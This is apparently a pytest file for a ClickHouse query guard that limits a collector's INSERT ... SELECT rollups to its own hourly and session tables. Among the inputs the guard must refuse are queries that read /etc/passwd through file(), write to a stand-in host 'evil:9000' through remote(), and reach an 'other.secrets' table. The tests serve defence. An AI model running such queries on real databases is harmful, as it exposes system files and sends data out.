"""A writer's INSERT ... SELECT (how ``rumhouse simulate --days`` rolls up the hours it
writes through a running collector's SQL endpoint) is allowed into the rollup tables (the
hourly ones and the sessions) of rumhouse's own database only, without SETTINGS, and its
SELECT meets the same checks as any query. The trees are the engine's own (``EXPLAIN AST``)."""

from __future__ import annotations

from typing import Any

import pytest

from collector.sql.errors import ClickHouseError
from collector.sql.guard import Guard
from collector.store.rollups import BY_PAGE, BY_SEGMENT, BY_SESSION, SESSIONS

ONLY = (
    "a writer may INSERT ... SELECT only into sessions_data, sessions_hourly_data, "
    "vitals_hourly_data, vitals_hourly_pages_data"
)
ROLLUP = "INSERT INTO {table} SELECT hour, now64(3), site FROM vitals_hourly WHERE hour >= 1"


HOURS = {"start": "2026-12-01 00:00:00", "end": "2026-12-02 00:00:00"}


def explained(store: Any, sql: str) -> str:
    params = HOURS if "{start:" in sql else None
    return str(store.raw_query(f"EXPLAIN AST {sql}", parameters=params, fmt="TSVRaw").decode())


@pytest.fixture
def guard() -> Guard:
    return Guard("rum", table_functions=["file", "numbers", "url"], databases=["rum", "other"])


def refusal(guard: Guard, tree: str) -> str:
    with pytest.raises(ClickHouseError) as caught:
        guard.check_rollup(tree)
    return caught.value.body()


@pytest.mark.parametrize(
    "sql",
    [
        BY_SEGMENT, BY_PAGE, SESSIONS, BY_SESSION,  # what simulate --days sends
        ROLLUP.format(table="vitals_hourly_data"),
        ROLLUP.format(table="rum.vitals_hourly_pages_data"),
        "INSERT INTO vitals_hourly_data (hour, site) SELECT hour, site FROM vitals_hourly",
    ],
    ids=["by-segment", "by-page", "sessions", "by-session", "plain", "own-database", "columns"],
)  # fmt: skip
def test_a_rollup_of_hours_is_allowed(store: Any, guard: Guard, sql: str) -> None:
    guard.check_rollup(explained(store, sql))


@pytest.mark.parametrize(
    ("sql", "reason"),
    [
        (ROLLUP.format(table="page_views_data"), ONLY),
        (ROLLUP.format(table="other.vitals_hourly_data"), ONLY),
        (ROLLUP.format(table="alerts"), ONLY),
        ("INSERT INTO vitals_hourly_data VALUES (1, 2)", ONLY),
        ("INSERT INTO vitals_hourly_data FORMAT TSV", ONLY),
        ("SELECT * FROM vitals_hourly_data", ONLY),
        ("INSERT INTO FUNCTION file('x.tsv') SELECT 1", ONLY),
        (ROLLUP.format(table="vitals_hourly_data") + " SETTINGS max_threads = 64",
         "a writer's INSERT ... SELECT may not carry SETTINGS"),
        ("INSERT INTO vitals_hourly_data SELECT * FROM (SELECT 1 SETTINGS max_threads = 64)",
         "a writer's INSERT ... SELECT may not carry SETTINGS"),
        ("INSERT INTO vitals_hourly_data SELECT * FROM file('/etc/passwd')",
         "function file reaches outside rumhouse's data"),
        ("INSERT INTO vitals_hourly_data SELECT * FROM other.secrets",
         "other.secrets is outside rumhouse's data"),
        # a table function ahead of a rollup table's name (its PARTITION BY) is no target
        ("INSERT INTO FUNCTION remote('evil:9000', db.t) PARTITION BY vitals_hourly_data "
         "SELECT 1", ONLY),
        # names deeper in the tree are checked: in the SELECT, and in the column list
        ("INSERT INTO vitals_hourly_data SELECT hour FROM vitals_hourly "
         "WHERE site IN other.secrets", "other.secrets is outside rumhouse's data"),
        ("INSERT INTO vitals_hourly_data (other.secrets.x) SELECT 1",
         "other.secrets is outside rumhouse's data"),
    ],
    ids=["raw-table", "other-database", "alerts", "values", "format", "select", "function",
         "settings", "nested-settings", "file", "other-table", "function-partition",
         "in-other-table", "other-column"],
)  # fmt: skip
def test_anything_else_is_refused(store: Any, guard: Guard, sql: str, reason: str) -> None:
    expected = f"Code: 497. DB::Exception: Not enough privileges: {reason}. (ACCESS_DENIED)\n"
    assert refusal(guard, explained(store, sql)) == expected
